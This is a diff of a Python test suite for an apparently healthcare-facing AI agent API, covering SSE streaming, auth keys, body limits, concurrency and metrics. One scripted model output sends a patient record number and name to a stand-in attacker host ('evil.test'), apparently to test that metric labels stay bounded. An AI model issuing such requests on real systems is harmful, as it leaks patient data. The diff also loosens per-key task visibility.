@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import json
 from collections.abc import AsyncIterator
 from pathlib import Path
@@ -51,13 +52,21 @@ def make_app(
     )
 
 
-async def client(app: FastAPI) -> httpx.AsyncClient:
-    return httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://agent.test")
+@contextlib.asynccontextmanager
+async def client(app: FastAPI) -> AsyncIterator[httpx.AsyncClient]:
+    """An ASGI client with the app's lifespan running (the run store is opened there)."""
+    async with (
+        app.router.lifespan_context(app),
+        httpx.AsyncClient(
+            transport=httpx.ASGITransport(app=app), base_url="http://agent.test"
+        ) as c,
+    ):
+        yield c
 
 
 async def test_sse_stream_end_to_end_and_replay() -> None:
     audit = MemoryAuditSink()
-    async with await client(make_app(audit=audit)) as c:
+    async with client(make_app(audit=audit)) as c:
         r = await c.post("/v1/tasks", json=TASK, headers={**AUTH, "Accept": "text/event-stream"})
         assert r.status_code == 200
         assert r.headers["content-type"].startswith("text/event-stream")
@@ -86,12 +95,24 @@ async def test_sse_stream_end_to_end_and_replay() -> None:
             "size": summary["size"],
             "truncated": False,
             "elapsed_ms": summary["elapsed_ms"],
+            "summary": {
+                "resource_type": "Bundle",
+                "count": 3,
+                "total": 3,
+                "types": ["Observation"],
+            },
         }
+        request = frames[2][1]
+        assert request["url"] == f"Observation?patient={MRN}&code=MG&_format=json"
+        assert request["payload"] is None and request["sent"] is True
         task_id = r.headers["x-task-id"]
         assert result["task_id"] == task_id
         got = await c.get(f"/v1/tasks/{task_id}", headers=AUTH)
-        assert got.status_code == 200 and got.json()["state"] == "finished"
-        assert got.json()["history"] == result["history"]
+        view = got.json()
+        assert got.status_code == 200 and view["status"] == "finished"
+        assert view["outcome"] == "completed" and view["answer"] == "[3]"
+        assert view["result"]["history"] == result["history"]
+        assert view["patient"] == MRN and view["principal"] == key_id(KEY)
         replay = await c.get(f"/v1/tasks/{task_id}/events", headers=AUTH)
         assert list(sse.decode(replay.text)) == frames
         assert (await c.get("/v1/tasks/nope", headers=AUTH)).status_code == 404
@@ -100,7 +121,7 @@ async def test_sse_stream_end_to_end_and_replay() -> None:
 
 
 async def test_json_response() -> None:
-    async with await client(make_app()) as c:
+    async with client(make_app()) as c:
         r = await c.post("/v1/tasks", json=TASK, headers=AUTH)
         body = r.json()
         assert r.status_code == 200 and body["status"] == "completed"
@@ -118,7 +139,7 @@ async def test_json_response() -> None:
 async def test_auth(tmp_path: Path) -> None:
     keyfile = tmp_path / "keys"
     keyfile.write_text("# mounted secret\nfile-key\n\n  # indented comment\n")
-    async with await client(make_app(api_keys_file=keyfile)) as c:
+    async with client(make_app(api_keys_file=keyfile)) as c:
         assert (await c.post("/v1/tasks", json=TASK)).status_code == 401
         for comment in ("# indented comment", "#", "# mounted secret"):  # never keys
             r = await c.post("/v1/tasks", json=TASK, headers={"Authorization": f"Bearer {comment}"})
@@ -131,9 +152,9 @@ async def test_auth(tmp_path: Path) -> None:
         ok = await c.post("/v1/tasks", json=TASK, headers={"Authorization": "Bearer file-key"})
         assert ok.status_code == 200
         assert (await c.post("/v1/tasks", json=TASK, headers=AUTH)).status_code == 200
-        # tasks are visible to the key that ran them only
+        # a plain key holds every role, "read" included: it sees the other key's task
         other = await c.get(f"/v1/tasks/{ok.headers['x-task-id']}", headers=AUTH)
-        assert other.status_code == 404
+        assert other.status_code == 200
         assert (await c.get("/healthz")).json() == {"status": "ok"}
         assert (await c.get("/docs")).status_code == 200
         assert (await c.get("/openapi.json")).json()["paths"]["/v1/tasks"]
@@ -143,14 +164,14 @@ async def test_no_keys_needs_explicit_no_auth() -> None:
     with pytest.raises(ConfigError):
         make_app(api_keys="")
     app = make_app(api_keys="", no_auth=True)
-    async with await client(app) as c:
+    async with client(app) as c:
         assert (await c.post("/v1/tasks", json=TASK)).status_code == 200
         ready = (await c.get("/readyz")).json()
         assert ready["auth"] == "disabled" and "authentication is disabled" in ready["warnings"][0]
 
 
 async def test_body_limit() -> None:
-    async with await client(make_app(max_body_bytes=2000)) as c:
+    async with client(make_app(max_body_bytes=2000)) as c:
         big = {"instruction": "x" * 5000}
         assert (await c.post("/v1/tasks", json=big, headers=AUTH)).status_code == 413
 
@@ -177,7 +198,10 @@ async def test_a_trickled_body_times_out() -> None:
             yield b"y"
 
     transport = httpx.ASGITransport(app=limited)
-    async with httpx.AsyncClient(transport=transport, base_url="http://agent.test") as c:
+    async with (
+        app.router.lifespan_context(app),
+        httpx.AsyncClient(transport=transport, base_url="http://agent.test") as c,
+    ):
         headers = {**AUTH, "Content-Type": "application/json"}
         r = await asyncio.wait_for(c.post("/v1/tasks", content=trickle(), headers=headers), 5)
         assert r.status_code == 408
@@ -194,7 +218,7 @@ async def test_saturation_answers_429_with_retry_after() -> None:
         return httpx.Response(200, json=fakes.completion("FINISH([1])"))
 
     app = make_app(model=slow_model, max_concurrent_tasks=2)
-    async with await client(app) as c:
+    async with client(app) as c:
         running = [
             asyncio.create_task(c.post("/v1/tasks", json=TASK, headers=AUTH)) for _ in range(2)
         ]
@@ -210,7 +234,7 @@ async def test_saturation_answers_429_with_retry_after() -> None:
 
 
 async def test_options_cannot_escalate_writes() -> None:
-    async with await client(make_app(write_mode="dry-run")) as c:
+    async with client(make_app(write_mode="dry-run")) as c:
         r = await c.post(
             "/v1/tasks", json={**TASK, "options": {"write_mode": "execute"}}, headers=AUTH
         )
@@ -222,14 +246,14 @@ async def test_options_cannot_escalate_writes() -> None:
 
 
 async def test_readiness() -> None:
-    async with await client(make_app()) as c:
+    async with client(make_app()) as c:
         r = await c.get("/readyz")
         assert r.status_code == 200 and r.json()["ready"] and r.json()["auth"] == "enabled"
 
     def fhir_down(request: httpx.Request) -> httpx.Response:
         raise httpx.ConnectError("refused")
 
-    async with await client(make_app(fhir=fhir_down)) as c:
+    async with client(make_app(fhir=fhir_down)) as c:
         r = await c.get("/readyz")
         assert r.status_code == 503 and r.json() == {
             "ready": False,
@@ -253,7 +277,7 @@ async def test_metrics_labels_are_a_closed_set() -> None:
         )
 
     app = make_app(model=model, write_mode="execute")
-    async with await client(app) as c:
+    async with client(app) as c:
         obs = {"resourceType": "Observation", "subject": {"reference": f"Patient/{MRN}"}}
         scripts = [
             [f"GET http://evil.test/{MRN}?name=Peter", "FINISH([1])"],
@@ -315,7 +339,8 @@ async def test_a_client_that_stops_reading_loses_its_stream_and_frees_the_slot(
 ) -> None:
     # The client sends its request, takes the response head, then never reads again: the
     # server's send waits for a socket that never drains. Past the stream's limit the response
-    # is abandoned, the task cancelled and its concurrency slot released.
+    # is abandoned and the stream gauge drops; the task itself runs in the background and its
+    # concurrency slot is released when it ends.
     from sara.agent.api import routes
 
     monkeypatch.setattr(routes, "STREAM_MARGIN_SECONDS", 0.0)
@@ -359,11 +384,17 @@ async def test_a_client_that_stops_reading_loses_its_stream_and_frees_the_slot(
         if message["type"] == "http.response.body":
             await never.wait()  # the socket never drains
 
-    await asyncio.wait_for(app(scope, receive, send), timeout=10)
-    assert sent[0]["type"] == "http.response.start" and sent[0]["status"] == 200
-    assert service.gate.active == 0  # the slot is free again
-    task_id = dict(sent[0]["headers"])[b"x-task-id"].decode()
-    assert service.store.get(task_id).state == "cancelled"
+    async with app.router.lifespan_context(app):
+        await asyncio.wait_for(app(scope, receive, send), timeout=10)
+        assert sent[0]["type"] == "http.response.start" and sent[0]["status"] == 200
+        task_id = dict(sent[0]["headers"])[b"x-task-id"].decode()
+        for _ in range(200):  # the stream's end cancels the task; its segment then ends
+            if service.gate.active == 0:
+                break
+            await asyncio.sleep(0.01)
+        assert service.gate.active == 0  # the slot is free again
+        # the task ran in the background, independent of the stalled socket, and ended
+        assert (await service.runner.store.get(task_id)).status == "finished"
     text = service.metrics.exposition().decode()
     families = {f.name: f for f in text_string_to_metric_families(text)}
     assert [s.value for s in families["sara_sse_streams_open"].samples] == [0.0]
